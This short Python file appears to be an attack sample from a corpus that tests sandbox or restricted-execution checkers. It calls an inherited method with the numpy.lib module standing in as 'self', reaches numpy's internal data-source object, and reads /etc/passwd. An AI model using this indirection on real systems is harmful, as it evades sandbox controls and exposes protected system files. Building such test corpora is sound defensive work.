# source: Python method binding (a def in a class body is a plain function, Class.method(obj) runs it with self=obj; Python tutorial 9.3.4) and attack12x_005 of this corpus; classmethod binding (cls is the class object)
# family: unbound method reached through a class object taken as a value (cls.method(x) in a classmethod)
# goal: numpy.lib._datasource through self._datasource on a module: io.open of /etc/passwd
import numpy as np


class Cache:
    def __init__(self):
        self._datasource = None

    def backend(self):
        return self._datasource


class Sub(Cache):
    @classmethod
    def go(cls):
        return cls.backend(np.lib)


ds = Sub.go()
print(ds._open("/etc/passwd").read()[:80])
